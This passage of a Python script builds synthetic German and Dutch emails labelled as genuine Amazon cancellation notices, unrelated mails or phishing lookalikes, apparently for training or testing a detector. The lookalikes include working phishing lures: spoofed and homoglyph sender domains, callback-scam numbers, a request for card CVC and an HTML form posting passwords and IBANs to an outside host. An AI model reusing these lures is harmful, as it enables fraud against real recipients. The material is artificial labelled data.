           post=[("List-Unsubscribe", "<https://www.sicherheitsbrief.de/abmelden?id=77a91>"), ("Precedence", "bulk")])

_o = order_no("304")
plain_mail("non_notice", "de", None, False, None,
           "Amazon.de: delivery appointment for bulky item cancelled by carrier; order stays active",
           "Amazon.de", "order-update@amazon.de", DE_TO[2],
           "Ihr Liefertermin wurde abgesagt \u2013 bitte w\u00e4hlen Sie einen neuen Termin",
           text=amz_text("de", "amazon.de", "Liefertermin", _o, "Guten Tag Tobias Krause,",
                         ["der vereinbarte Liefertermin am Donnerstag, 7. November, 8:00-12:00 Uhr f\u00fcr Ihre "
                          "Gro\u00dfger\u00e4telieferung wurde vom Zustellpartner abgesagt.",
                          "Ihre Bestellung #%s bleibt bestehen. Bitte w\u00e4hlen Sie unter Meine Bestellungen einen "
                          "neuen Liefertermin aus. Die Lieferung inklusive Aufstellung und Altger\u00e4temitnahme ist "
                          "weiterhin kostenlos." % _o], [], None, "de"),
           charset="utf-8", cte="qp",
           pre=[("Received", lambda dt: received_amazon("amazon.de", dt)), ("Authentication-Results", auth_pass("amazon.de"))],
           post=[("X-AMAZON-MAIL-RELAY-TYPE", "notification")], msgid_domain="eu-west-1.amazonses.com",
           reply_to="no-reply@amazon.de", tz=1)

plain_mail("non_notice", "de", None, False, None,
           "Amazon Music Unlimited subscription cancelled",
           "Amazon Music", "digital-no-reply@amazon.de", DE_TO[6],
           "Ihr Amazon Music Unlimited-Abonnement wurde gek\u00fcndigt",
           html=amz_html("de", "amazon.de", "D01-%07d-%07d" % (rng.randrange(10 ** 7), rng.randrange(10 ** 7)),
                         "Hallo Lena,",
                         ["Ihr Amazon Music Unlimited-Abonnement (Einzelplan, monatlich) wurde wie gew\u00fcnscht "
                          "gek\u00fcndigt. Sie k\u00f6nnen Music Unlimited noch bis zum 14. Dezember 2024 nutzen; danach "
                          "wird Ihnen nichts mehr berechnet.",
                          "Heruntergeladene Titel aus Music Unlimited sind nach diesem Datum nicht mehr abspielbar. "
                          "Ihre gekauften Songs bleiben in Ihrer Bibliothek."],
                         [], None, ("Abonnement erneut starten", "https://www.amazon.de/music/unlimited"), "de")
                .replace("Bestellung #</td>", "Abonnement-Referenz</td>"),
           charset="utf-8", cte="b64",
           pre=[("Received", lambda dt: received_amazon("amazon.de", dt))],
           post=[("X-AMAZON-MAIL-RELAY-TYPE", "notification")], msgid_domain="eu-west-1.amazonses.com", tz=1)

_o = order_no("302")
plain_mail("non_notice", "de", None, False, None,
           "genuine payment reminder: update payment or order will be cancelled",
           "Amazon.de", "payments-messages@amazon.de", DE_TO[4],
           "Handlungsbedarf: Zahlung f\u00fcr Ihre Bestellung #%s" % _o,
           text=amz_text("de", "amazon.de", "Zahlungsinformationen", _o, "Guten Tag Markus Wei\u00df,",
                         ["die Zahlung f\u00fcr Ihre Bestellung #%s konnte nicht verarbeitet werden, da die Bank die "
                          "Lastschrift zur\u00fcckgewiesen hat." % _o,
                          "Bitte aktualisieren Sie Ihre Zahlungsinformationen bis zum 22. Oktober unter Meine "
                          "Bestellungen > Zahlung \u00e4ndern. Wenn bis dahin keine g\u00fcltige Zahlungsart vorliegt, "
                          "wird Ihre Bestellung storniert.",
                          "Sobald die Zahlung best\u00e4tigt ist, versenden wir Ihre Artikel."],
                         [("De'Longhi Magnifica S ECAM 22.110.B Kaffeevollautomat", "Amazon EU S.\u00e0 r.l.",
                           "EUR 299,99", 1)], None, "de", items_label="Artikel in dieser Bestellung"),
           charset="iso-8859-1", cte="qp", header_charset="iso-8859-1",
           pre=[("Received", lambda dt: received_amazon("amazon.de", dt))],
           post=[("X-AMAZON-MAIL-RELAY-TYPE", "notification")], msgid_domain="eu-west-1.amazonses.com",
           reply_to="no-reply@amazon.de", tz=2)

# ---- DE lookalikes
plain_mail("lookalike", "de", "fraud_prevention", True, None,
           "gmx sender, callback hotline, malformed order number; iso-8859-1",
           "Amazon Kundenservice", "amazon.kundenservice24@gmx.de", DE_TO[1],
           "Bestellung storniert - verd\u00e4chtige Zahlung ! Erstattung ausstehend",
           text="""Sehr geehrte Kundin, sehr geehrter Kunde,

Ihre Bestellung Nr. 302-55812-339 \u00fcber 1.299,00 \u20ac (Samsung Galaxy S24 Ultra 512GB) wurde aufgrund
verd\u00e4chtiger Zahlungsaktivit\u00e4ten von unserem Sicherheitsteam storniert.

Der Betrag ist auf Ihrem Konto noch reserviert. Damit die Erstattung freigegeben werden kann,
rufen Sie bitte umgehend unsere kostenlose Hotline an:

      0800 723 4415   (Mo-So, 0-24 Uhr)

Halten Sie bitte Ihre Kartendaten bereit. Ohne Ihren Anruf innerhalb von 24 Stunden wird der
Betrag endg\u00fcltig abgebucht.

Mit freundlichen Gr\u00fc\u00dfen
Ihr Amazon Sicherheitsteam
""", charset="iso-8859-15", cte="qp", header_charset="iso-8859-15",
           pre=[recv("mout.gmx.net", "212.227.17.%d" % rng.randrange(1, 250), "mx-ha.gmx.net"),
                auth_hdr("dkim=pass header.d=gmx.de; spf=pass smtp.mailfrom=gmx.de; dmarc=pass header.from=gmx.de",
                         "mx-ha.gmx.net")], tz=1)

_o = order_no("305")
plain_mail("lookalike", "de", "fraud_prevention", True, None,
           "look-alike domain amazon-de-konto.info, account locked + order cancelled + enter code; polished",
           "Amazon.de", "sicherheit@amazon-de-konto.info", DE_TO[3],
           "Ihr Konto wurde gesperrt und Ihre Bestellung #%s storniert" % _o,
           html=phish_html("Amazon.de", "amazon.de", "Guten Tag Anna Schneider,",
                           ["wir haben eine Anmeldung in Ihrem Konto von einem unbekannten Ger\u00e4t festgestellt. "
                            "Zu Ihrer Sicherheit wurde Ihr Konto <b>vor\u00fcbergehend gesperrt</b> und Ihre letzte "
                            "Bestellung <b>storniert</b>.",
                            "Um Ihr Konto zu entsperren, geben Sie bitte den folgenden Best\u00e4tigungscode auf unserer "
                            "Sicherheitsseite ein. Der Code ist 12 Stunden g\u00fcltig.",
                            '<span style="font-size:26px;letter-spacing:5px;font-weight:bold">48-2217-93</span>'],
                           "Konto jetzt entsperren", "https://amazon-de-konto.info/sicherheit/entsperren?c=48221793",
                           footer=["Amazon EU S.\u00e0 r.l., 38 avenue John F. Kennedy, L-1855 Luxemburg",
                                   "Amazon wird Sie niemals nach Ihrem Passwort fragen."], order=_o,
                           order_label="Bestellung #"),
           charset="utf-8", cte="qp",
           pre=[recv("mail.amazon-de-konto.info", "91.215.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250))),
                auth_hdr("spf=pass smtp.mailfrom=amazon-de-konto.info; dkim=pass header.d=amazon-de-konto.info; "
                         "dmarc=pass header.from=amazon-de-konto.info")], tz=1)

plain_mail("lookalike", "de", "payment_issue", True, None,
           "web.de sender asks reader to reply with card number, expiry and CVC; windows-1252 8bit",
           "Amazon Zahlungsabteilung", "amazon.zahlung@web.de", DE_TO[5],
           "Ihre Amazon Bestellung wurde storniert \u2013 Zahlung abgelehnt",
           text="""Sehr geehrte Frau Becker,

leider wurde Ihre Bestellung (Ref. 303-8812-44) storniert, da Ihre Zahlung von Ihrer Bank
abgelehnt wurde. Betrag: 412,90 \u20ac

Um die Bestellung wieder zu aktivieren, antworten Sie bitte einfach auf diese E-Mail mit:

  \u2022 Name des Karteninhabers
  \u2022 Kartennummer
  \u2022 G\u00fcltig bis (MM/JJ)
  \u2022 Pr\u00fcfnummer (CVC)

Unsere Zahlungsabteilung wird die Zahlung dann manuell freigeben und Ihre Bestellung
innerhalb von 24 Stunden versenden.

Mit freundlichen Gr\u00fc\u00dfen
Amazon.de Zahlungsabteilung
""", charset="windows-1252", cte="8bit", header_charset="windows-1252",
           pre=[recv("mout.web.de", "212.227.15.%d" % rng.randrange(1, 250), "mx.freenet.de"),
                auth_hdr("dkim=pass header.d=web.de; spf=pass smtp.mailfrom=web.de; dmarc=pass header.from=web.de",
                         "mx.freenet.de")], tz=1)

_o = order_no("303")
_evil = "https://kundenkonto-storno.net/de/anmelden?sid=%s" % rand_alnum(20, string.ascii_lowercase + string.digits)
plain_mail("lookalike", "de", "technical_issue", True, None,
           "sender amazon.de.<evil>.net; link text shows amazon.de URL, href elsewhere",
           "Amazon.de", "bestellung@amazon.de.kundenkonto-storno.net", DE_TO[4],
           "Ihre Amazon.de Bestellung #%s wurde storniert" % _o,
           html=phish_html("Amazon.de", "amazon.de", "Guten Tag Markus Wei\u00df,",
                           ["aufgrund eines Systemfehlers bei der Verarbeitung wurde Ihre Bestellung storniert. "
                            "Der Betrag von <b>EUR 567,80</b> wurde bereits von Ihrem Konto abgebucht.",
                            "Um die R\u00fcckerstattung zu erhalten, best\u00e4tigen Sie bitte Ihre Zahlungsdaten in "
                            "Meine Bestellungen:"],
                           None, None,
                           shown_links=[("https://www.amazon.de/gp/css/order-history", _evil),
                                        ("https://www.amazon.de/hilfe", _evil)],
                           footer=["Diese E-Mail wurde von einer Adresse verschickt, die keine E-Mails empfangen kann.",
                                   "Amazon wird Sie niemals per E-Mail nach Ihrem Passwort fragen."],
                           order=_o, order_label="Bestellung #"),
           charset="utf-8", cte="b64",
           pre=[recv("srv12.kundenkonto-storno.net", "5.188.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250)), "mx-ha.web.de"),
                auth_hdr("spf=pass smtp.mailfrom=kundenkonto-storno.net; dkim=none; "
                         "dmarc=none header.from=amazon.de.kundenkonto-storno.net", "mx-ha.web.de")], tz=1)

_o = order_no("306")
plain_mail("lookalike", "de", "inventory_shortage", True, None,
           "Greek Alpha homoglyph in display name; item 'no longer in stock', refund link to foreign domain",
           "\u0391mazon.de", "info@versand-hinweis.com", DE_TO[7],
           "Stornierung: Artikel nicht mehr vorr\u00e4tig \u2013 Bestellung #%s" % _o,
           text=("Guten Tag,\n\nder von Ihnen bestellte Artikel ist leider nicht mehr vorr\u00e4tig. Ihre Bestellung "
                 "#%s wurde storniert.\n\nErstattung anfordern: https://versand-hinweis.com/erstattung/%s\n" % (_o, rand_alnum(8))),
           html=phish_html("Amazon.de", "amazon.de", "Guten Tag,",
                           ["der von Ihnen bestellte Artikel <b>Dyson Airwrap Complete Long</b> ist leider nicht mehr "
                            "vorr\u00e4tig. Ihre Bestellung wurde deshalb storniert.",
                            "Bitte fordern Sie Ihre Erstattung von <b>549,00 \u20ac</b> innerhalb von 48 Stunden an, "
                            "sonst wird der Betrag als Gutschein gutgeschrieben."],
                           "Erstattung anfordern", "https://versand-hinweis.com/erstattung/%s" % rand_alnum(8),
                           footer=["\u00a9 1998-2024, Amazon.com, Inc. oder Tochtergesellschaften"], order=_o,
                           order_label="Bestellung #"),
           charset="utf-8", cte="qp",
           pre=[recv("mx.versand-hinweis.com", "45.95.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250)), "mx01.icloud.com"),
                auth_hdr("spf=pass smtp.mailfrom=versand-hinweis.com; dkim=none; dmarc=none header.from=versand-hinweis.com",
                         "mx01.icloud.com")], tz=1)

plain_mail("lookalike", "de", "payment_issue", True, None,
           "amaz0n.de look-alike domain; order WILL be cancelled unless payment data verified",
           "Amazon.de", "no-reply@amaz0n.de", DE_TO[2],
           "Letzte Erinnerung: Ihre Bestellung wird in 24 Stunden storniert",
           html=phish_html("Amazon.de", "amazon.de", "Guten Tag Tobias Krause,",
                           ["Ihre Zahlung f\u00fcr die Bestellung <b>#304-9917235-1102</b> konnte nicht "
                            "verarbeitet werden, da Ihre Kreditkarte abgelehnt wurde.",
                            "<b>Ihre Bestellung wird in 24 Stunden automatisch storniert</b>, wenn Sie Ihre "
                            "Zahlungsdaten nicht aktualisieren."],
                           "Zahlungsdaten aktualisieren", "https://amaz0n.de/ap/zahlung?ref=erinnerung",
                           footer=["Amazon EU S.\u00e0 r.l. - alle Rechte vorbehalten"]),
           charset="iso-8859-1", cte="qp", header_charset="iso-8859-1",
           pre=[recv("mail.amaz0n.de", "193.42.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250)), "mx00.t-online.de"),
                auth_hdr("spf=pass smtp.mailfrom=amaz0n.de; dkim=pass header.d=amaz0n.de; dmarc=pass header.from=amaz0n.de",
                         "mx00.t-online.de")], tz=1)

plain_mail("lookalike", "de", "unknown", False, None,
           "crude outlook.de sender, no order number, no reason, attached HTML 'Stornierungsformular'",
           "Amazon Service", "amazon-service-de@outlook.de", DE_TO[6],
           "Stornierung Ihrer Bestellung",
           text="""Hallo,

Ihre Bestellung wurde STORNIERT.

Um Ihr Geld zur\u00fcck zu bekommen \u00f6ffnen Sie bitte das angeh\u00e4ngte Stornierungsformular und f\u00fcllen
Sie alle Felder aus. Das Formular muss innerhalb 48 Std. ausgef\u00fcllt werden sonst verf\u00e4llt der Anspruch.

Amazon Service Team
""", charset="utf-8", cte="8bit",
           attachments=[("Stornierungsformular.html",
                         '<html><body><h2>Amazon Stornierungsformular</h2><form action="https://storno-form.web.app/submit" '
                         'method="post">Name <input name="name"><br>E-Mail <input name="email"><br>Passwort <input '
                         'name="pw" type="password"><br>IBAN <input name="iban"><br><input type="submit" value="Absenden">'
                         '</form></body></html>', "text/html")],
           pre=[recv("EUR03-DBA-obe.outbound.protection.outlook.com", "40.92.%d.%d" % (rng.randrange(1, 120), rng.randrange(1, 250)),
                     "mx.outlook.com")], tz=1)

_o = order_no("302")
plain_mail("lookalike", "de", "customer_request", True, None,
           "sent from a compromised unrelated domain via bulk mailer: 'you cancelled; not you? click'",
           "Amazon", "noreply@em8821.dachdecker-weber.de", DE_TO[0],
           "Best\u00e4tigung: Ihre Stornierung der Bestellung #%s" % _o,
           text=("Guten Tag,\n\nwie von Ihnen beantragt, wurde Ihre Bestellung #%s storniert.\n"
                 "Artikel: Apple iPhone 16 Pro 256 GB\nBetrag: 1.329,00 EUR\n\n"
                 "Sie haben diese Stornierung nicht beantragt? Dann wurde Ihr Konto m\u00f6glicherweise von Dritten "
                 "genutzt. Best\u00e4tigen Sie Ihre Identit\u00e4t hier, damit die Erstattung nicht auf ein fremdes Konto "
                 "erfolgt:\nhttps://u4412.ct.sendgrid.net/ls/click?upn=%s\n\nIhr Amazon Team\n" % (_o, rand_alnum(40))),
           html=phish_html("Amazon", "amazon", "Guten Tag,",
                           ["wie von Ihnen beantragt, wurde Ihre Bestellung storniert.",
                            "Artikel: Apple iPhone 16 Pro 256 GB<br>Betrag: 1.329,00 EUR",
                            "Sie haben diese Stornierung <b>nicht</b> beantragt? Dann wurde Ihr Konto m\u00f6glicherweise "
                            "von Dritten genutzt. Best\u00e4tigen Sie Ihre Identit\u00e4t, damit die Erstattung nicht auf "
                            "ein fremdes Konto erfolgt."],
                           "Das war ich nicht", "https://u4412.ct.sendgrid.net/ls/click?upn=%s" % rand_alnum(40),
                           footer=["Amazon.de \u2013 Kundenservice"], order=_o, order_label="Bestellung #"),
           charset="utf-8", cte="qp",
           pre=[recv("o1.em8821.dachdecker-weber.de", "149.72.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250)), "mx-ha.web.de"),
                auth_hdr("dkim=pass header.d=dachdecker-weber.de; spf=pass smtp.mailfrom=em8821.dachdecker-weber.de; "
                         "dmarc=pass header.from=em8821.dachdecker-weber.de", "mx-ha.web.de")], tz=1)

# =================================================================== DUTCH
NL_TO = ['"Sanne de Vries" <sanne.devries@gmail.com>', '"Joost van Dijk" <joostvandijk@ziggo.nl>',
         '"Lotte Jansen" <lotte.jansen@kpnmail.nl>', '"Pieter Claes" <pieter.claes@telenet.be>',
         '"Eva Peeters" <eva.peeters@skynet.be>', '"Bram Visser" <bram.visser@hotmail.nl>',
         'mark.smit@outlook.com', '"Fleur Bakker" <fleur.bakker@xs4all.nl>']

# ---- NL notices
amz_notice("nl", "amazon.nl", "order-update",
           "Uw Amazon.nl-bestelling #{order} is geannuleerd",
           "Hallo Sanne,",
           ["Het spijt ons u te moeten laten weten dat we het onderstaande artikel uit uw bestelling #{order} hebben "
            "moeten annuleren. Het artikel is niet meer leverbaar en onze leverancier kan ons geen nieuwe voorraad "
            "bezorgen.",
            "Er is niets van uw rekening afgeschreven voor dit artikel. Eventuele andere artikelen in uw bestelling "
            "worden zoals gepland verzonden.",
            "Onze excuses voor het ongemak."],
           [("Philips Airfryer XXL Premium HD9870/20", "Amazon EU S.\u00e0 r.l.", "\u20ac 279,99", 1)],
           "inventory_shortage", True, "item no longer available, supplier has no stock", False,
           fmt="alt", charset="utf-8", cte="qp", title="Annulering", to=NL_TO[0], tz=1,
           button=("Bestelgegevens bekijken", "https://www.amazon.nl/gp/css/order-history"))

amz_notice("nl", "amazon.nl", "payments-messages",
           "Uw bestelling #{order} bij Amazon.nl is geannuleerd",
           "Hallo Joost,",
           ["Uw bestelling #{order} is geannuleerd.",
            "We hebben de betaling voor deze bestelling niet kunnen verwerken: het saldo van uw Amazon.nl-cadeaubon "
            "was onvoldoende en de aanvullende betaling met uw creditcard werd door uw bank geweigerd. We hebben u "
            "gevraagd uw betaalgegevens bij te werken, maar we hebben binnen de gestelde termijn geen geldige "
            "betaalmethode ontvangen.",
            "Wilt u de artikelen toch kopen? Plaats dan een nieuwe bestelling met een geldige betaalmethode."],
           [("Sonos Era 100 slimme speaker, zwart", "Amazon EU S.\u00e0 r.l.", "\u20ac 249,00", 1)],
           "payment_issue", True, "insufficient gift card balance + card declined; plain text base64", True,
           fmt="text", charset="utf-8", cte="b64", title="Annulering", to=NL_TO[1], tz=1)

amz_notice("nl", "amazon.com.be", "order-update",
           "Uw Amazon.com.be-bestelling #{order} is geannuleerd",
           "Hallo Pieter,",
           ["Door een technische fout werd het onderstaande artikel op Amazon.com.be tegen een onjuiste prijs "
            "weergegeven.",
            "Zoals vermeld in onze Algemene Voorwaarden annuleren wij in dat geval de bestelling en brengen wij u "
            "daarvan op de hoogte. Uw bestelling #{order} is daarom geannuleerd. Een eventuele reservering op uw "
            "betaalmiddel wordt vrijgegeven.",
            "Onze excuses voor het ongemak."],
           [("Lenovo IdeaPad Slim 5 16\" laptop, Ryzen 7, 16 GB, 1 TB", "Amazon EU S.\u00e0 r.l.", "\u20ac 69,00", 1)],
           "technical_issue", True, "pricing error on amazon.com.be", True,
           fmt="alt", charset="utf-8", cte="qp", html_cte="b64", title="Annulering", to=NL_TO[3], tz=2)

amz_notice("nl", "amazon.nl", "cs-reply",
           "Uw bestelling #{order} is geannuleerd",
           "Hallo Lotte,",
           ["Bij een routinematige controle hebben we ongebruikelijke activiteit in uw account vastgesteld. Om u te "
            "beschermen hebben we de onderstaande bestelling geannuleerd en uw account tijdelijk geblokkeerd.",
            "Om de blokkering op te heffen, gaat u zelf naar amazon.nl, logt u in en volgt u de instructies om uw "
            "identiteit en betaalgegevens te verifi\u00ebren. Stuur ons geen persoonlijke of betaalgegevens per e-mail.",
            "Eventuele reserveringen voor deze bestelling zijn vrijgegeven."],
           [("Apple Watch Series 10 GPS 46 mm, aluminium", "Amazon EU S.\u00e0 r.l.", "\u20ac 479,00", 1)],
           "fraud_prevention", True, "unusual activity, account on hold, verification", False,
           fmt="html", charset="utf-8", cte="qp", title="Annulering", to=NL_TO[2], tz=1)

amz_notice("nl", "amazon.com.be", "auto-confirm",
           "Artikel succesvol geannuleerd: \u201cLEGO Icons 10330 McLaren MP4/4 & Ayrton Senna\u2026\u201d",
           "Hallo Eva,",
           ["Zoals u heeft gevraagd, hebben we het onderstaande artikel uit uw bestelling #{order} geannuleerd.",
            "Reden van annulering: geannuleerd door klant",
            "U wordt voor dit artikel niets in rekening gebracht. Als er al een bedrag is afgeschreven, storten wij "
            "dit binnen 3 tot 5 werkdagen terug."],
           [("LEGO Icons 10330 McLaren MP4/4 & Ayrton Senna", "Amazon EU S.\u00e0 r.l.", "\u20ac 69,99", 1)],
           "customer_request", True, "cancelled at customer's request; 8bit", True,
           fmt="alt", charset="utf-8", cte="8bit", title="Annulering", to=NL_TO[4], tz=2)

amz_notice("nl", "amazon.nl", "order-update",
           "Uw Amazon.nl-bestelling #{order} is geannuleerd",
           "Hallo Bram,",
           ["Uw bestelling #{order} is geannuleerd.",
            "Als er al een bedrag is afgeschreven, ontvangt u binnen 3 tot 5 werkdagen een terugbetaling op de "
            "oorspronkelijke betaalmethode. U hoeft hiervoor niets te doen."],
           [("Nespresso Vertuo Pop koffiemachine, zwart", "Amazon EU S.\u00e0 r.l.", "\u20ac 99,00", 1),
            ("Nespresso Vertuo capsules Variety Pack, 40 stuks", "Amazon EU S.\u00e0 r.l.", "\u20ac 28,40", 1)],
           "unknown", False, "cancellation without stated reason", False,
           fmt="alt", charset="utf-8", cte="qp", title="Annulering", to=NL_TO[5], tz=1, total="\u20ac 127,40")

# ---- NL non-notices
plain_mail("non_notice", "nl", None, False, None,
           "bol.com order cancelled by partner seller; seller note mentions Amazon",
           "bol.com", "klantenservice@service.bol.com", NL_TO[7],
           "Je bestelling is geannuleerd",
           text="""Hoi Fleur,

Helaas is je bestelling (bestelnummer A000%07d) geannuleerd.
Verkoper JBL Audio Outlet kon het artikel niet leveren.

Artikel: JBL Flip 6 - Bluetooth speaker - Blauw
Prijs: \u20ac 99,99

Bericht van de verkoper: "Excuses, onze voorraad wordt gedeeld met ons Amazon-kanaal en het laatste
exemplaar was daar net verkocht."

Je hebt betaald met iDEAL. Het bedrag staat binnen 1 werkdag weer op je rekening.

Groetjes,
bol.com

bol.com vraagt nooit per e-mail naar je wachtwoord of inloggegevens.
""" % rng.randrange(10 ** 7), charset="iso-8859-15", cte="qp", header_charset="iso-8859-15",
           pre=[recv("mta-out.service.bol.com", "185.14.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250)), "mx.xs4all.nl"),
                auth_hdr("dkim=pass header.d=service.bol.com; spf=pass smtp.mailfrom=service.bol.com; "
                         "dmarc=pass header.from=service.bol.com", "mx.xs4all.nl")], tz=1)

plain_mail("non_notice", "nl", None, False, None,
           "friend writes that she cancelled her Amazon order",
           "Iris Mulder", "iris.mulder88@gmail.com", NL_TO[0],
           "Re: cadeau voor Thomas",
           text="""Hoi Sanne,

Ik heb mijn Amazon-bestelling van die Kindle toch maar geannuleerd hoor, zijn broer bleek er al eentje
voor hem gekocht te hebben \U0001F648 De annulering ging meteen door, ik kreeg binnen een minuut de mail
van Amazon.nl dat het gelukt was.

Zullen we samen een ballonvaartbon geven? Ik zag er eentje voor \u20ac 199 voor twee personen.

Liefs,
Iris
""", charset="utf-8", cte="8bit",
           pre=[recv("mail-sor-f41.google.com", "209.85.220.41"),
                auth_hdr("dkim=pass header.i=@gmail.com header.s=20230601; spf=pass smtp.mailfrom=iris.mulder88@gmail.com; "
                         "dmarc=pass (p=NONE sp=QUARANTINE dis=NONE) header.from=gmail.com")],
           post=[("In-Reply-To", "<CAHq9p1x0aZ@mail.gmail.com>")], tz=1)

plain_mail("non_notice", "nl", None, False, None,
           "security newsletter quoting a fake Amazon cancellation subject",
           "Veilig Online", "nieuwsbrief@veiligonline-nieuws.nl", NL_TO[1],
           "Pas op: nepmail 'Uw Amazon-bestelling is geannuleerd' in omloop",
           html="""<html><body style="font-family:Verdana,sans-serif;font-size:13px;max-width:620px">
<h1 style="color:#0a4d8c">Veilig Online &ndash; nieuwsbrief week 44</h1>
<h2>Nepmail: &lsquo;Uw Amazon-bestelling is geannuleerd &ndash; bevestig uw betaling&rsquo;</h2>
<p>Veel lezers ontvingen deze week een e-mail met als onderwerp <i>&ldquo;Uw Amazon-bestelling #405-1182-337 is
geannuleerd&rdquo;</i>. Volgens de mail zou uw betaling zijn mislukt en moet u via een link uw creditcardgegevens
opnieuw invoeren, anders &lsquo;vervalt uw terugbetaling&rsquo;.</p>
<p>Dit is <b>phishing</b>. Let op het afzenderadres (geen amazon.nl-adres), het afwijkende bestelnummer en links die
naar een andere website leiden. Controleer uw bestellingen altijd door zelf naar amazon.nl te gaan.</p>
<p>Twijfelt u? Meld de mail bij de Fraudehelpdesk of stuur hem door naar Amazon.</p>
<hr><p style="font-size:11px">U ontvangt deze nieuwsbrief omdat u zich heeft aangemeld.
<a href="https://veiligonline-nieuws.nl/afmelden?u=31c9">Afmelden</a></p></body></html>
""", charset="utf-8", cte="b64",
           pre=[recv("mail.veiligonline-nieuws.nl", "178.22.%d.%d" % (rng.randrange(1, 250), rng.randrange(1, 250)), "mx.ziggo.nl"),
                auth_hdr("dkim=pass header.d=veiligonline-nieuws.nl; spf=pass smtp.mailfrom=veiligonline-nieuws.nl; "
                         "dmarc=pass header.from=veiligonline-nieuws.nl", "mx.ziggo.nl")],
           post=[("List-Unsubscribe", "<https://veiligonline-nieuws.nl/afmelden?u=31c9>"), ("Precedence", "bulk")])

_o = order_no("407")
plain_mail("non_notice", "nl", None, False, None,
           "amazon.com.be installation appointment cancelled; order itself stays active",
           "Amazon.com.be", "order-update@amazon.com.be", NL_TO[3],
           "Uw installatieafspraak is geannuleerd",
           text=amz_text("nl", "amazon.com.be", "Afspraak", _o, "Hallo Pieter,",
                         ["Uw afspraak voor de installatie van uw wasmachine op dinsdag 12 november tussen 13:00 en "
                          "17:00 uur is door de installateur geannuleerd.",
                          "Uw bestelling #%s blijft gewoon actief en wordt zoals gepland geleverd. Kies via Uw "
                          "bestellingen een nieuw moment voor de installatie; dit blijft kosteloos." % _o],
                         [], None, "nl"),
           html=amz_html("nl", "amazon.com.be", _o, "Hallo Pieter,",
                         ["Uw afspraak voor de installatie van uw wasmachine op dinsdag 12 november tussen 13:00 en "
                          "17:00 uur is door de installateur geannuleerd.",
                          "Uw bestelling blijft gewoon actief en wordt zoals gepland geleverd. Kies een nieuw moment "
                          "voor de installatie; dit blijft kosteloos."],
                         [], None, ("Nieuwe afspraak kiezen", "https://www.amazon.com.be/gp/css/order-history"), "nl"),
           charset="utf-8", cte="qp",
           pre=[("Received", lambda dt: received_amazon("amazon.com.be", dt)),
                ("Authentication-Results", auth_pass("amazon.com.be"))],
           post=[("X-AMAZON-MAIL-RELAY-TYPE", "notification")], msgid_domain="eu-west-1.amazonses.com",
           reply_to="no-reply@amazon.com.be", tz=1)

plain_mail("non_notice", "nl", None, False, None,
           "Kindle Unlimited subscription cancelled (amazon.nl)",
           "Amazon.nl", "digital-no-reply@amazon.nl", NL_TO[6],
           "Uw Kindle Unlimited-lidmaatschap is opgezegd",
           text="""Amazon.nl

Hallo Mark,

Zoals gevraagd hebben we uw Kindle Unlimited-lidmaatschap opgezegd. U kunt nog tot en met
3 januari 2025 boeken lenen en lezen; daarna worden er geen kosten meer in rekening gebracht.

Boeken die u via Kindle Unlimited heeft geleend, worden na die datum van uw apparaten verwijderd.
Uw gekochte Kindle-boeken blijven gewoon in uw bibliotheek.

Van gedachten veranderd? Verleng uw lidmaatschap via https://www.amazon.nl/kindle-dbs/ku/ku-central

Amazon vraagt u nooit per e-mail om uw wachtwoord of betaalgegevens.

Deze e-mail is verzonden vanaf een adres dat geen inkomende e-mail kan ontvangen.
""", charset="iso-8859-1", cte="qp",
           pre=[("Received", lambda dt: received_amazon("amazon.nl", dt))],
           post=[("X-AMAZON-MAIL-RELAY-TYPE", "notification")], msgid_domain="eu-west-1.amazonses.com", tz=1)

_o = order_no("404")
plain_mail("non_notice", "nl", None, False, None,
           "genuine payment reminder: update payment method or order will be cancelled",
           "Amazon.nl", "payments-messages@amazon.nl", NL_TO[7],
           "Actie vereist: werk uw betaalmethode bij voor bestelling #%s" % _o,
           html=amz_html("nl", "amazon.nl", _o, "Hallo Fleur,",
                         ["We konden de betaling voor uw bestelling niet verwerken, omdat uw creditcard is verlopen.",
                          "Werk uw betaalgegevens uiterlijk op 9 december bij via Uw bestellingen > Betaling wijzigen. "
                          "Als we v\u00f3\u00f3r die datum geen geldige betaalmethode ontvangen, wordt uw bestelling "
                          "geannuleerd.",
                          "Zodra de betaling is bevestigd, verzenden we uw artikelen."],
                         [("Garmin Forerunner 265 GPS-hardloophorloge", "Amazon EU S.\u00e0 r.l.", "\u20ac 379,99", 1)],
                         None, ("Betaling wijzigen", "https://www.amazon.nl/gp/css/order-history"), "nl",
                         items_label="Artikelen in deze bestelling"),
           charset="utf-8", cte="qp",
           pre=[("Received", lambda dt: received_amazon("amazon.nl", dt)), ("Authentication-Results", auth_pass("amazon.nl"))],
           post=[("X-AMAZON-MAIL-RELAY-TYPE", "notification")], msgid_domain="eu-west-1.amazonses.com",
           reply_to="no-reply@amazon.nl", tz=1)

# ---- NL lookalikes
plain_mail("lookalike", "nl", "payment_issue", True, None,
           "hotmail sender, callback number, malformed order number",
           "Amazon Klantenservice", "amazon.klantendienst.nl@hotmail.com", NL_TO[5],
           "Uw bestelling is geannuleerd - betaling mislukt",
           text="""Beste klant,

Uw bestelling 405-8823-1170 (Apple iPad Pro 13 inch, \u20ac 1.549,00) is GEANNULEERD omdat de betaling
is mislukt. Het bedrag is wel gereserveerd op uw rekening.

Om het bedrag terug te krijgen moet u binnen 24 uur contact opnemen met onze afdeling
terugbetalingen via 020 808 4412 (gratis, 7 dagen per week bereikbaar).

Met vriendelijke groet,
Amazon Klantenservice Nederland
""", charset="windows-1252", cte="qp", header_charset="windows-1252",
           pre=[recv("EUR02-VI1-obe.outbound.protection.outlook.com", "40.92.%d.%d" % (rng.randrange(1, 120), rng.randrange(1, 250)),
                     "mx.ziggo.nl"),
                auth_hdr("spf=pass smtp.mailfrom=hotmail.com; dkim=pass header.d=hotmail.com; dmarc=pass header.from=hotmail.com",
                         "mx.ziggo.nl")], tz=1)

_o = order_no("403")
plain_mail("lookalike", "nl", "fraud_prevention", True, None,
           "look-alike domain amazon-nl-account.help; account blocked + order cancelled + code",
           "Amazon.nl", "beveiliging@amazon-nl-account.help", NL_TO[2],
           "Uw account is geblokkeerd en bestelling #%s geannuleerd" % _o,
           html=phish_html("Amazon.nl", "amazon.nl", "Hallo Lotte,",
                           ["We hebben verdachte inlogpogingen op uw account gezien. Daarom is uw account "
